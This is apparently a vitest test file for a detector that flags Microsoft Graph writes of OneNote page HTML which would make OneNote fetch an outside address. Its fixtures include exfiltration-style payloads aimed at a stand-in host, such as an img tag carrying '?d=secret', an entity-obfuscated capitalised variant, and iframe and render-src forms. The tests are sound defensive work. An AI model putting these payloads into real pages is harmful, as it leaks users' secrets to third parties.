import { describe, expect, it } from 'vitest';

import { effectsOf } from '../../../../src/tools/core/shared/effects/write-effects.ts';

const page = (html: string) => `<!DOCTYPE html><html><body>${html}</body></html>`;
const WEB_SITES = ['web sites from which OneNote loads content'];

describe('a OneNote page through graph_write', () => {
  const pages = '/me/onenote/sections/1/pages';
  const content = '/groups/1/onenote/pages/2/content';
  const append = (html: string) => [{ target: 'body', action: 'append', content: html }];

  it.each([
    ['has a picture', 'POST', pages, page('<p>x</p><img src="https://fabrikam.example/?d=secret">')],
    ['has a picture in capitals', 'POST', pages, page('<IMG\nsrc=&#104;ttps://fabrikam.example/>')],
    ['shows a web page', 'POST', pages, page('<div data-render-src="https://fabrikam.example/"></div>')],
    ['has a video', 'POST', pages, page('<iframe data-original-src="https://fabrikam.example/"/>')],
    ['gets a picture', 'PATCH', content, append('<img src="https://fabrikam.example/?d=secret">')],
  ])(
    'sends data to web sites if it %s, because OneNote requests the address',
    (_what, method, path, body) => {
      expect(effectsOf({ method, path, body }).outsiders).toEqual(WEB_SITES);
    },
  );

  it.each([
    ['a page with a link', 'POST', pages, page('<a href="https://fabrikam.example/">img</a>')],
    ['a paragraph', 'PATCH', content, append('<p>an image</p>')],
    ['a section', 'POST', '/me/onenote/notebooks/1/sections', { displayName: '<img>' }],
    ['a file with a picture', 'PUT', '/me/drive/root:/onenote/x.html:/content', page('<img src="x">')],
  ])('sends no data to web sites: %s', (_what, method, path, body) => {
    expect(effectsOf({ method, path, body }).outsiders).toEqual([]);
  });
});
